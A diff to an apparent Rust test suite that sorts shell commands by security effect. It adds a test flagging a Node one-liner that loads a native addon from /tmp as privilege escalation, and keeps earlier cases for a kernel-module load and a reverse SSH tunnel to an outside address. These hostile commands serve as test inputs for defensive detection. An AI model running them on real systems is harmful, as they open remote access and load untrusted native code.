@@ -144,3 +144,12 @@ fn enabling_an_installed_unit_is_administration_but_a_unit_from_a_path_is_persis
     attack("modprobe br_netfilter", Effect::PrivilegeEscalation);
     attack("ssh -R 4444:localhost:22 ops@203.0.113.9", Effect::Listener);
 }
+
+#[test]
+fn node_loading_an_addon_from_a_temporary_place_loads_native_code() {
+    attack(
+        "node -e 'process.dlopen({exports:{}}, \"/tmp/x.node\")'",
+        Effect::PrivilegeEscalation,
+    );
+    flows("node -e 'require(\"./build/Release/addon.node\")'");
+}
